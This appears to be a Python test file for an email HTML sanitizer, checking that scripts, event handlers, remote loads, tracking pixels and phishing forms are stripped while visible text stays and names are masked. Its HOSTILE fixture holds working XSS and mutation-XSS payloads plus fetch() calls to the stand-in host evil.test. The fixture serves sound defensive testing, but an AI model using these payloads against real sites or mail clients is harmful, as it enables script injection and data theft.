"""HTML of strangers made safe to show: what a person sees stays, what runs, loads, links or names a person does not."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from channels.email.safe_html import ATTRIBUTES, PICTURE, TAGS, safe_html

HOSTILE = """\
<html><head><title>t</title><base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">
<link rel="stylesheet" href="http://evil.test/a.css"><style>@import "http://evil.test/b.css"; p {background:
url(http://evil.test/c)}</style></head><body onload="fetch('http://evil.test/d')" background="http://evil.test/e">
<p style="background:url(http://evil.test/f)" onclick="alert(1)" id="x" class="y">I was left alone.</p>
<script>fetch('http://evil.test/g')</script><img src="http://evil.test/h.png" srcset="http://evil.test/i 2x" alt="a">
<img src="cid:one" onerror="alert(1)"><img src="http://evil.test/count" width="1" height="1">
<a href="javascript:alert(1)" ping="http://evil.test/j">Read</a> <a href="http://evil.test/k">more</a>
<form action="http://evil.test/l"><input name="password" autofocus onfocus="alert(1)"><button>Sign in</button></form>
<iframe src="http://evil.test/m"></iframe><object data="http://evil.test/n"></object><embed src="http://evil.test/o">
<video src="http://evil.test/p" poster="http://evil.test/q" autoplay></video><audio src="http://evil.test/r"></audio>
<svg><script>alert(1)</script><image href="http://evil.test/s"/><use href="http://evil.test/t"/></svg>
<math><mtext><table><mglyph><style><!--</style><img src="x" onerror="alert(1)">--></style></table></mtext></math>
<table background="http://evil.test/u"><tr><td colspan="2" background="http://evil.test/v">Monday</td></tr></table>
<div style="display:none">hidden words</div><ul><li>One</li></ul><blockquote cite="http://evil.test/w">Theirs</blockquote>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src="http://evil.test/x"></template>
<!--[if mso]><img src="http://evil.test/y"><![endif]--></body></html>"""
"""A mail that tries everything."""


def nothing(_text: str) -> list[tuple[int, int, str]]:
    return []


def hiding(*words: str) -> object:
    def mask(text: str) -> list[tuple[int, int, str]]:
        found = [(match.start(), match.end(), "[name]") for word in words for match in re.finditer(word, text)]
        return sorted(found)

    return mask


def test_nothing_that_loads_runs_links_or_styles_is_left_and_every_word_is() -> None:
    shown = safe_html(HOSTILE, nothing)
    assert "evil" not in shown
    assert not re.search(r"script|style|href|src|on\w+=|alert|hidden", shown)
    words = re.sub(r"<[^>]*>", " ", shown).split()
    assert words == [
        "I",
        "was",
        "left",
        "alone.",
        PICTURE,
        PICTURE,
        "Read",
        "more",
        "Sign",
        "in",
        "Monday",
        "One",
        "Theirs",
    ]
    assert '<td colspan="2">Monday</td>' in shown
    assert "<blockquote>Theirs</blockquote>" in shown


def test_a_name_is_hidden_wherever_it_stands_and_however_it_is_tagged() -> None:
    html = "<p>Dear <b>Ann</b> <i>Smith</i>,</p><p>Ann Smith &amp; AnnSmith</p>Ann<br>Smith"
    shown = safe_html(html, hiding(r"Ann\s?Smith"))  # type: ignore[arg-type]
    assert "Ann" not in shown
    assert "Smith" not in shown
    assert shown.count("[name]") == 4


@pytest.mark.parametrize("html", ["", " ", "<p></p>", "<script>x</script>", "<!-- x -->", "<img width=1>", "<"])
def test_of_nothing_comes_nothing(html: str) -> None:
    assert safe_html(html, nothing) in {"", "<p>&lt;</p>", "<div>&lt;</div>"}


_piece = st.sampled_from(
    [
        *HOSTILE.split("\n"),
        "<p>",
        "</p>",
        "<table>",
        "<b>",
        "</b>",
        "<",
        ">",
        '"',
        "&lt;",
        "&#x3c;script>",
        "Ann",
        "\0",
        "é",
    ]
)


@settings(derandomize=True, max_examples=200, deadline=None, database=None)
@given(st.lists(st.one_of(_piece, st.text(max_size=20)), max_size=12).map("".join))
def test_whatever_comes_only_harmless_tags_and_attributes_go_out(html: str) -> None:
    shown = safe_html(html, hiding("Ann"))  # type: ignore[arg-type]
    allowed = {name for names in ATTRIBUTES.values() for name in names}
    for tag, attributes in re.findall(r"<\s*/?([^\s>/]*)([^>]*)>", shown):
        assert tag in TAGS
        assert set(re.findall(r"([\w-]+)=", attributes)) <= allowed
    assert "Ann" not in re.sub(r"<[^>]*>", "", shown)
